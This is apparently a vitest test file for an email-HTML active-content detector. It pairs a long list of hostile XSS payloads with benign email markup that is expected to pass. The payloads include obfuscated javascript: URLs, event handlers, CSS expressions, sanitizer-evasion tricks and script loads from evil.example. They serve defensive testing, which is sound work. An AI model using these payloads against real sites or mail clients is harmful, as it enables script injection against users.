import { describe, expect, test } from 'vitest';
import { findActiveContent } from './find-active-content.js';
import { inspectMarkup } from './inspecting-parser.js';

const HOSTILE: Record<string, string> = {
  'script element': '<p>a</p><script>alert(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script with a slash after its name': '<script/xss src="//evil.example/x.js"></script>',
  'script never closed': '<script src=//evil.example/x.js',
  'script after a stray bracket': '<<script>alert(1)//<</script>',
  'script with a bracket in its tag': '<script<b>alert(1)</script>',
  'script in an svg': '<svg><script>alert(1)</script></svg>',
  'script with a prefix': '<svg:script>alert(1)</svg:script>',
  'script behind a broken image tag': '<img """><script>alert(1)</script>">',
  'script inside a title': '<title><script>alert(1)</script></title>',
  'script inside a style element': '<style><script>alert(1)</script></style>',
  'script in a template element': '<template><script>alert(1)</script></template>',
  'script in noscript': '<noscript><script>alert(1)</script></noscript>',
  'javascript URL': '<a href="javascript:alert(1)">x</a>',
  'javascript URL, mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript URL, unquoted': '<a href=javascript:alert(1)>x</a>',
  'javascript URL in back quotes': '<a href=`javascript:alert(1)`>x</a>',
  'javascript URL after white space': '<a href=" \n\t javascript:alert(1)">x</a>',
  'javascript URL after a no-break space': '<a href="\u00a0javascript:alert(1)">x</a>',
  'javascript URL with a tab inside': '<a href="jav\tascript:alert(1)">x</a>',
  'javascript URL with a newline inside': '<a href="javascr\nipt:alert(1)">x</a>',
  'javascript URL with a carriage return before the colon': '<a href="javascript\r:alert(1)">x</a>',
  'javascript URL in decimal references':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'javascript URL in padded references without semicolons':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  'javascript URL in hexadecimal references': '<a href="&#x6A;&#x61;&#X76;&#x61;script:alert(1)">x</a>',
  'javascript URL with a referenced tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript URL with &Tab;': '<a href="java&Tab;script:alert(1)">x</a>',
  'javascript URL with &NewLine;': '<a href="java&NewLine;script:alert(1)">x</a>',
  'javascript URL with &colon;': '<a href="javascript&colon;alert(1)">x</a>',
  'javascript URL with a referenced control in front': '<a href="&#14; javascript:alert(1)">x</a>',
  'vbscript URL': '<img src=\'vbscript:msgbox("x")\'>',
  'livescript URL': '<img src="livescript:[code]">',
  'view-source around javascript': '<a href="view-source:javascript:alert(1)">x</a>',
  'data URL with HTML': '<a href="data:text/html,<b>x</b>">x</a>',
  'data URL with HTML, base64 and mixed case': '<a href="DaTa:text/HTML;base64,PHNjcmlwdD4=">x</a>',
  'data URL with an SVG document': '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  'data URL with XHTML in an object': '<object data="data:application/xhtml+xml,x"></object>',
  'image source': '<img src="javascript:alert(1)">',
  'image lowsrc': '<img lowsrc="javascript:alert(1)">',
  'image srcset': '<img srcset="a.png 1x, javascript:alert(1) 2x">',
  'body background': '<body background="javascript:alert(1)">',
  'table background': '<table background="javascript:alert(1)">',
  'background sound': '<bgsound src="javascript:alert(1)">',
  'style sheet link': '<link rel="stylesheet" href="javascript:alert(1)">',
  base: '<base href="javascript:alert(1);//">',
  'iframe source': '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'iframe srcdoc, doubly escaped handler':
    '<iframe srcdoc="&lt;img src=x one&#114;ror=alert(1)&gt;"></iframe>',
  frame: '<frameset><frame src="javascript:alert(1)"></frameset>',
  'object data': '<object data="javascript:alert(1)"></object>',
  'object parameter': '<object><param name="url" value="javascript:alert(1)"></object>',
  embed: '<embed src="javascript:alert(1)">',
  'form action': '<form action="javascript:alert(1)"><input type=submit></form>',
  'button formaction': '<button formaction="javascript:alert(1)">x</button>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'meta refresh to data': '<meta http-equiv="refresh" content="0; URL=data:text/html;base64,PHNjcmlwdD4=">',
  'meta refresh, broken by white space': '<meta http-equiv="refresh" content="0;url= java\nscript:alert(1)">',
  'xlink:href': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'math href': '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
  'svg set': '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
  'svg animate values': '<svg><a><animate attributeName="href" values="x;javascript:alert(1)"/></a></svg>',
  'animated handler': '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  'HTML+TIME': '<t:set attributeName="innerHTML" to="x&lt;script defer&gt;alert(1)&lt;/script&gt;">',
  'vml href': '<v:roundrect href="javascript:alert(1)"></v:roundrect>',
  'event handler': '<a href="#" onclick="alert(1)">x</a>',
  'event handler in capitals': '<IMG SRC=x ONERROR=alert(1)>',
  'event handler after slashes': '<svg/onload=alert(1)>',
  'event handler right after a quoted value': '<img src="x"onerror="alert(1)">',
  'event handler before a spaced equals sign': '<body onload \n = alert(1)>',
  'event handler after a form feed': '<img src=x\fonerror=alert(1)>',
  'event handler in a tag never closed': '<img src=x onerror=alert(1)//',
  'event handler in a quoted value never closed': '<img src=x onerror="alert(1)//',
  'event handler with a quote in front': '<a foo"onclick=alert(1)>x</a>',
  'event handler on an unknown element': '<x-card onfocus=alert(1) tabindex=0>',
  'event handler on a second body': '<body><p>x</p><body onload=alert(1)>',
  'details ontoggle': '<details open ontoggle=alert(1)>',
  'style expression': '<div style="width: expression(alert(1))">',
  'style expression split by comments': '<div style="width: exp/* x */ression(alert(1))">',
  'style expression with CSS escapes': '<div style="width: \\65xpression(alert(1))">',
  'style expression with a referenced parenthesis': '<div style="width: expression&lpar;alert(1))">',
  'style expression behind a comment opened in a string':
    "<div style=\"a:'/*';width:expression(alert(1));b:'*/'\">",
  'style -moz-binding': '<div style="-moz-binding:url(//evil.example/x.xml#y)">',
  'style behavior': '<div style="behavior: url(x.htc)">',
  'style script URL': '<div style="background-image: url(javascript:alert(1))">',
  'style script URL in escapes':
    '<div style="background:\\75\\72\\6C\\28\'\\6a\\61vascript\\3a alert(1)\')">',
  'style block with expression': '<style>p { width: EXPRESSION (alert(1)) }</style>',
  'style block with script URL': '<style>li { list-style-image: url("javascript:alert(1)") }</style>',
  'style block with an escaped import': "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
  'style block in an svg, with references': '<svg><style>p{width:expres&#115;ion(alert(1))}</style></svg>',
  'style block of a script type': '<style type="text/javascript">alert(1)</style>',
  'conditional comment with script': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'conditional comment with a handler': '<!--[if mso]><td onclick="x()"><![endif]-->',
  'conditional comment with an obfuscated URL':
    '<!--[if mso]><a href="java&#10;script:alert(1)"><![endif]-->',
  'conditional comment with executable CSS': '<!--[if mso]><style>p{width:expression(1)}</style><![endif]-->',
  'downlevel-revealed block': '<![if !mso]><script>alert(1)</script><![endif]>',
  'downlevel-revealed comment': '<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->',
  'comment in a comment': '<!--[if mso]><!-- <script>alert(1)</script> <![endif]-->',
  'ordinary comment': '<!-- <script>alert(1)</script> -->',
  'comment closed with a bang': '<!-- a --!><script>alert(1)</script>',
  'comment that ends at once': '<!--><script>alert(1)</script>-->',
  'processing instruction': '<?xml version="1.0"?><script>alert(1)</script>',
  'tag hidden in a title attribute of raw text': '<style><a title="</style><img src=x onerror=alert(1)>">',
  'comment hidden in a title attribute of raw text':
    '<style><a title="</style><!--[if mso]><td onclick=x()><![endif]-->">',
  'tag hidden from raw text by an svg': '<svg><style><img title="x</style>" src=x onerror=alert(1)>',
  'both ways of hiding at once':
    '<style><a title="</style><svg><style><img title="x</style>" src=x onerror=alert(1)>',
  'tag hidden in noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'tag hidden in a comment inside raw text': '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  'tag hidden behind a frameset': '<frameset><style><a title="</style><img src=x onerror=alert(1)>">',
  'mathml integration point':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;" onerror=alert(1)>',
  'foster-parented row': '<table><tr><img src=x onerror=alert(1)></tr></table>',
  'handler after a name broken by NUL': '<img src=x o\u0000nerror=1 onerror=alert(1)>',
};

const ORDINARY: Record<string, string> = {
  'a sentence about it':
    '<p>Never paste javascript:alert(1) into the address bar; &lt;script&gt; is text.</p>',
  'words that begin with on': '<p>One online onset on = once, on Monday only = 5 &euro;</p>',
  'an attribute with on inside': '<td font="x" data-on="1" aria-controls="a" condition="yes">x</td>',
  'a book called JavaScript': '<img src="cid:1" alt="JavaScript: the good parts" title="JavaScript: x">',
  'preview text': '<meta name="description" content="JavaScript: what is new">',
  'a link to a search': '<a href="https://example.com/?q=subscription:script&amp;x=1">x</a>',
  'mail, phone and cid links':
    '<a href="mailto:a@b.example">a</a><a href="tel:+47123">b</a><img src="cid:logo">',
  'an inline picture': '<img src="data:image/png;base64,iVBORw0KGgo=">',
  'an inline SVG picture': '<img src="data:image/svg+xml;utf8,%3Csvg/%3E">',
  'Outlook VML button':
    '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://example.com" style="height:40px;v-text-anchor:middle;" arcsize="10%" stroke="f" fillcolor="#222"><w:anchorlock/><center>Go</center></v:roundrect><![endif]--><!--[if !mso]><!--><a href="https://example.com" style="background:#222">Go</a><!--<![endif]-->',
  'Outlook settings':
    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->',
  'Outlook VML behaviour':
    '<style>v\\:* {behavior:url(#default#VML);}\no\\:* {behavior:url(#default#VML);}</style>',
  'Outlook VML behaviour with spaces': "<style>v\\:* { behavior: url( '#default#VML' ); }</style>",
  'Word style block in a comment':
    '<style><!--\n/* Font Definitions */\n@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}\np.MsoNormal, li.MsoNormal {margin:0cm;}\n--></style>',
  'media queries':
    '<style type="text/css">@media only screen and (max-width:600px){ .x > td { width:100% !important } } /* phones */ a[href^="tel"]:hover { color: inherit }</style>',
  'web font import': '<style>@import url("https://fonts.example/css?family=Inter:400,700");</style>',
  'background picture':
    '<td style="background-image:url(\'https://example.com/a.png\'); scroll-behavior: smooth">x</td>',
  'font names': '<p style="font-family: \'Segoe UI\', &quot;Open Sans&quot;, sans-serif">x</p>',
  'escaped CSS content': '<style>.a:before { content: "\\2022\\00a0"; }</style>',
  'typographic references': '<p>It&#39;s &#8220;fine&#8221;&#160;&#x1F600;&nbsp;&mdash;&zwnj;&#847;</p>',
  'a facebook-like data attribute':
    '<a href="https://example.com" data-saferedirecturl="https://x.example">x</a>',
  'schema.org markup':
    '<div itemscope itemtype="http://schema.org/EmailMessage"><meta itemprop="description" content="x"></div>',
  'a form':
    '<form action="https://example.com/rate" method="post"><button name="r" value="5">5</button></form>',
  'a table never closed': '<table><tr><td>a<td>b<tr><td>c',
  'no markup': 'Just a line: with data: and expression (of interest) and a \\ backslash.',
  'a disclosed regex': '<code>/^\\s*on\\w+\\s*=/</code>',
  'set of three': '<p>ratio 3:set, a:animated banner</p>',
};

describe('hostile html → refused', () => {
  test.each(Object.entries(HOSTILE))('%s → a finding', async (_, html) => {
    expect(await findActiveContent(html)).not.toBeNull();
    expect(
      await findActiveContent(`<html><body><table><tr><td>${html}</td></tr></table></body></html>`),
    ).not.toBeNull();
  });
});

describe('ordinary email html → passes', () => {
  test.each(Object.entries(ORDINARY))('%s → no finding', async (_, html) => {
    expect(await findActiveContent(html)).toBeNull();
    expect(await inspectMarkup(html)).toBeNull();
  });

  test('escaped hostile html shown as text → no finding', async () => {
    for (const html of Object.values(HOSTILE)) {
      const shown = html.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
      expect(await inspectMarkup(`<pre>${shown}</pre>`)).toBeNull();
    }
  });
});
